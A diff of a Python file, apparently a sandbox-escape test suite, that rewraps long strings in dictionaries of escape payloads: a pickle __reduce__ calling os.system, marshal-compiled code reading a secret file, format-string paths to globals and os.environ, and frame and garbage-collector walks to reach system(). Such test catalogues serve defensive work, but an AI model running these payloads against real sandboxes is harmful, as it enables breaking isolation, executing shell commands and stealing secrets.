@@ -19,27 +19,31 @@ _GRAPH: dict[str, str | tuple[str, ...]] = {
     "print(types.FunctionType(c, {})())",
     "pickle that runs a program": "import pickle, os\nclass E:\n    def __reduce__(self): return os.system, (SHELL,)\n"
     "shell(lambda s: pickle.loads(pickle.dumps(E())))",
-    "marshal": "import marshal\nexec(marshal.loads(marshal.dumps(compile('print(open(SECRET_FILE).read())', 'x', 'exec'))))",
+    "marshal": "import marshal\n"
+    "exec(marshal.loads(marshal.dumps(compile('print(open(SECRET_FILE).read())', 'x', 'exec'))))",
 }
 
 _FORMATS: dict[str, str | tuple[str, ...]] = {
     "format to globals": "class A:\n    def __init__(self): pass\nprint('{0.__init__.__globals__}'.format(A()))\n"
     "import os\nprint('{0.environ}'.format(os))",
     "format_map": "import os\nprint('{os.environ[HOME]} {os.sys.modules}'.format_map({'os': os})[:2000])",
-    "string.Formatter": "import string, os\nf = string.Formatter().get_field('0.path.os', (os,), {})[0]\nshell(f.system)",
+    "string.Formatter": "import string, os\nf = string.Formatter().get_field('0.path.os', (os,), {})[0]\n"
+    "shell(f.system)",
     "error that holds an object": "import os\ntry: os.path.nothing\nexcept AttributeError as e: shell(e.obj.os.system)",
 }
 
 _FRAMES: dict[str, str | tuple[str, ...]] = {
     "generator frames": "g = (g.gi_frame.f_back.f_back for _ in [1])\nframe = next(g)\nseen = []\n"
     "while frame: seen.append(sorted(frame.f_globals)); frame = frame.f_back\nprint(str(seen)[:2000])\nwon()",
-    "traceback frames": "try: 1 / 0\nexcept ZeroDivisionError as e: frame = e.__traceback__.tb_frame\nwhile frame.f_back: "
+    "traceback frames": "try: 1 / 0\nexcept ZeroDivisionError as e: frame = e.__traceback__.tb_frame\n"
+    "while frame.f_back: "
     "frame = frame.f_back\nprint(str(frame.f_globals)[:2000])\nshell(frame.f_builtins['__import__']('os').system)",
     "locals of the runner": "import sys\nframe = sys._getframe()\nwhile frame: print(str(frame.f_locals)[:500]); "
     "frame = frame.f_back\nwon()",
     "walk of the collector": "import gc\nfor o in gc.get_objects():\n    n = getattr(o, '__name__', '')\n"
     "    if n == 'system' or type(o) is dict and 'system' in o and 'popen' in o: shell(o['system'])",
-    "referrers": "import gc\nprint(len(gc.get_referrers(won)), [str(r)[:300] for r in gc.get_referrers(print)[:5]])\nwon()",
+    "referrers": "import gc\n"
+    "print(len(gc.get_referrers(won)), [str(r)[:300] for r in gc.get_referrers(print)[:5]])\nwon()",
     "coroutine frames": "async def c(): pass\nx = c()\nprint(x.cr_frame.f_builtins['open'](SECRET_FILE).read())",
 }
 
